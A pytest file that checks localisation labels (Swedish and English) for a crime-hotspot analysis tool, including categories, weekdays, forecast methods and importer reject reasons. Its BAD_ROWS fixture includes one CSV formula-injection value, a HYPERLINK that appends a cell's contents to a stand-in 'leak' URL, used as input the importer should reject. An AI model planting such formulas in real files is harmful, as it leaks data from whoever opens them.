"""Codes to words (hotspots.render.labels): every code the program holds reads as words in
both languages, in every shape it comes in, and never as a Python literal."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest

from hotspots.core.config import WEEKDAYS
from hotspots.core.taxonomy import CODES
from hotspots.engine.survey import CRIME_FEAR_CLASSES
from hotspots.est.actions import STATUSES
from hotspots.forecast.methods import MethodSpec
from hotspots.planning.model import KINDS
from hotspots.render import labels

LANGS = ("sv", "en")


@pytest.mark.parametrize("lang", LANGS)
def test_top_categories_in_every_shape_read_as_words(lang: str) -> None:
    """The analysis holds top_categories as records; a pop-up once printed the dict."""
    records = [
        {"code": "assault_public", "label_sv": "x", "label_en": "y", "count": 1459.0},
        {"code": "robbery", "label_sv": "x", "label_en": "y", "count": 3.0},
    ]
    want = {
        "sv": "Misshandel i offentlig miljö (1\u00a0459), Rån (3)",  # number_format's ways
        "en": "Assault in a public place (1,459), Robbery (3)",
    }[lang]
    assert labels.categories_text(records, lang) == want  # type: ignore[arg-type]
    assert labels.categories_text(tuple(records), lang) == want  # type: ignore[arg-type]
    pairs = [("assault_public", 1459), ("robbery", 3)]
    assert labels.categories_text(pairs, lang) == want  # type: ignore[arg-type]
    assert labels.categories_text(json.dumps(records), lang) == want
    mapping = {"assault_public": 1459, "robbery": 3}
    assert labels.categories_text(mapping, lang) == want  # type: ignore[arg-type]
    assert labels.categories_text(records, lang, limit=1) == want.split(", ")[0]  # type: ignore[arg-type]
    plain = labels.categories_text("assault_public,robbery", lang)  # type: ignore[arg-type]
    assert plain == want.replace(" (1\u00a0459)", "").replace(" (1,459)", "").replace(" (3)", "")
    for value in (None, float("nan"), []):
        assert labels.categories_text(value, lang) == ""  # type: ignore[arg-type]


def test_english_category_labels_match_the_taxonomy() -> None:
    from hotspots.core.taxonomy import label

    for code in CODES:
        for lang in LANGS:
            assert labels.category(code, lang) == label(code, lang)  # type: ignore[arg-type]
            assert labels.category(code, lang) != code  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("function", "codes"),
    [
        (labels.crime_fear, tuple(c for c in CRIME_FEAR_CLASSES if c)),
        (labels.suggestion_kind, KINDS),
        (labels.hotspot_kind, ("crime", "perceived")),
        (labels.problem_area, ("violence", "unsafe", "drugs_alcohol")),
        (labels.gi_class, ("hot_99", "hot_95", "hot_90", "not_significant")),
        (labels.time_of_day, ("dag", "kvall", "natt")),
        (labels.survey_reason, ("belysning", "grupperingar", "narkotika", "skadegorelse")),
        (labels.import_kind, ("incidents", "survey")),
    ],
    ids=[
        "crime_fear",
        "suggestion_kind",
        "hotspot_kind",
        "problem_area",
        "gi_class",
        "time_of_day",
        "survey_reason",
        "import_kind",
    ],
)
def test_every_code_has_words_in_both_languages(function, codes) -> None:
    for code in codes:
        sv, en = function(code, "sv"), function(code, "en")
        assert sv
        assert en
        assert "_" not in sv, (code, sv)
        assert "_" not in en, (code, en)
    assert function(None, "sv") == ""
    assert function(float("nan"), "en") == ""


def test_the_crime_fear_classes_read_as_sentences() -> None:
    assert labels.crime_fear("high_crime_high_fear", "sv") == "Många brott och upplevd otrygghet"
    assert labels.crime_fear("perceived_unsafe", "en") == "Perceived as unsafe, few incidents"


def test_action_statuses_stored_in_swedish_read_in_english() -> None:
    assert [labels.action_status(s, "sv") for s in STATUSES] == list(STATUSES)
    assert [labels.action_status(s, "en") for s in STATUSES] == [
        "planned",
        "ongoing",
        "done",
        "cancelled",
    ]


def test_weekdays_as_numbers_codes_or_text() -> None:
    assert [labels.weekday(d, "sv") for d in range(7)] == [
        "mån",
        "tis",
        "ons",
        "tor",
        "fre",
        "lör",
        "sön",
    ]
    assert [labels.weekday(code, "en") for code in WEEKDAYS][4:6] == ["Fri", "Sat"]
    assert labels.weekdays_text(["fri", "sat"], "sv") == "fre, lör"
    assert labels.weekdays_text("fri,sat", "en") == "Fri, Sat"
    assert labels.weekdays_text(None, "sv") == ""


def test_hours_never_read_none() -> None:
    assert labels.hours_text("22-04") == "22–04"
    assert labels.hours_text([22, 23, 0]) == "22, 23, 00"
    for missing in (None, float("nan"), pd.NA, "None"):
        assert labels.hours_text(missing) == ""


def test_the_forecast_methods_of_the_evaluation_page_read_as_words() -> None:
    naive = MethodSpec("naive", cell_m=25.0).label()
    kde = MethodSpec("kde", kernel="quartic", bandwidth_m=200.0).label()
    assert naive == "naive 25 m"  # what the evaluation page used to show
    assert labels.method(naive, "sv") == "Förra periodens brottsrutor (25 m)"
    assert labels.method(naive, "en") == "Last period's crime cells (25 m)"
    assert labels.method(kde, "sv") == "Täthetskarta, quartic, 200 m"
    assert labels.method("something else", "sv") == "something else"


BAD_ROWS = (
    "tidpunkt;kategori;lat;lon\n"
    "2026-11-20 22:15;Misshandel i offentlig miljö;59,3793;13,5036\n"
    "inte en tid;assault_public;59,3793;13,5036\n"
    '2026-11-21 04:00;=HYPERLINK("http://x/?leak="&A1,"y");59,3793;13,5036\n'
    "2026-11-21 05:00;assault_public;;13,5036\n"
    "2026-11-21 06:00;assault_public;13,5036;59,3793\n"
    "2026-11-21 07:00;assault_public;abc;13,5036\n"
    "2099-11-21 07:00;assault_public;59,3793;13,5036\n"
    "2026-11-21 08:00;;59,3793;13,5036\n"
    "2026-11-21 09:00;assault_public;59,3793;13,5036;extra\n"
)


def test_every_reason_of_a_real_import_reads_in_swedish(tmp_path: Path) -> None:
    """The importer's own reasons, from a real import of a Swedish file with bad rows."""
    from hotspots.io import read_file

    path = tmp_path / "bad.csv"
    path.write_text(BAD_ROWS, encoding="utf-8")
    _, rejects = read_file(path, kind="incidents")
    reasons = rejects["reason"].astype(str).tolist()
    assert len(reasons) == 8, reasons
    for reason in reasons:
        swedish = labels.reject_reason(reason, "sv")
        assert swedish != reason, f"no Swedish words for {reason!r}"
        english = labels.reject_reason(reason, "en")
        assert english == reason or reason.startswith("unknown category; ")
        assert "assault_public" not in swedish + english  # no list of codes for a reader
    swapped = next(r for r in reasons if "swapped" in r)
    assert labels.reject_reason(swapped, "sv") == (
        "lat/lon ser ut som omkastade lat/lon; byt plats på kolumnerna"
    )


def test_localise_frame_translates_the_coded_columns_and_keeps_the_input() -> None:
    frame = pd.DataFrame(
        {
            "day": ["fri", "sat"],
            "kind": ["foot_patrol", "youth_outreach"],
            "status": ["planerad", "klar"],
            "place": ["Stora torget", "Kanikenäset"],
        }
    )
    before = frame.copy()
    shown = labels.localise_frame(frame, "sv", headers=False)
    assert shown.to_dict("list") == {
        "day": ["fre", "lör"],
        "kind": ["Fotpatrull", "Uppsökande arbete"],
        "status": ["planerad", "klar"],
        "place": ["Stora torget", "Kanikenäset"],
    }
    english = labels.localise_frame(frame, "en", headers=False)
    assert english["status"].tolist() == ["planned", "done"]
    assert frame.equals(before)
